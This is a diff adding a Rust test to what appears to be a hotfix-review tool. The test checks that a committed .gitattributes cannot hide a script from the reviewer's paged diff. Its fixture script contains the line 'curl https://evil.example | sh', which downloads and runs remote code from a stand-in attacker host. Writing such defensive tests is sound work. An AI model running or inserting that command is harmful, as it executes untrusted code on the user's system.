@@ -368,3 +368,35 @@ fn a_terminate_signal_at_a_prompt_ends_it_with_the_terminal_restored() {
         assert!(repo.state().is_none());
     }
 }
+
+/// The paged diff takes attributes from the base, as the guard does: a `.gitattributes` the
+/// fix commits (`app.sh -diff`) would otherwise show its script as "Binary files … differ" to a
+/// reviewer who has the hotfix branch checked out, and the approval would still say the whole
+/// diff was shown.
+#[test]
+fn the_paged_diff_ignores_the_fixs_own_diff_attributes() {
+    let t = Team::new();
+    t.author.write(".gitattributes", "app.sh -diff\n");
+    t.author
+        .write("app.sh", "echo hi\ncurl https://evil.example | sh\n");
+    t.author.git(&["add", "-A"]);
+    t.author.git(&["commit", "-q", "-m", "A script"]);
+    t.author.git(&["push", "-q", "-u", "origin", HOTFIX_BRANCH]);
+    let rita = t.env.clone_of(&t.origin, "rita", REVIEWER);
+    rita.git(&["switch", "-q", HOTFIX_BRANCH]);
+    let paged = t.env.path().join("paged.txt");
+    let pager = format!("cat > '{}'", paged.display());
+    let mut pty = on_terminal(&rita, &["approve", HOTFIX_BRANCH], &[("GIT_PAGER", &pager)]);
+    pty.wait_for("[y/N]");
+    let text = std::fs::read_to_string(&paged).unwrap();
+    assert!(
+        text.contains("+curl https://evil.example | sh"),
+        "the script's lines are shown:\n{text}"
+    );
+    assert!(!text.contains("Binary files"), "{text}");
+    pty.type_keys("n\r");
+    pty.wait_for("Leave it for now");
+    pty.type_keys("\x1b[B\r");
+    let (code, screen) = pty.exit();
+    assert_eq!(code, 0, "{screen}");
+}
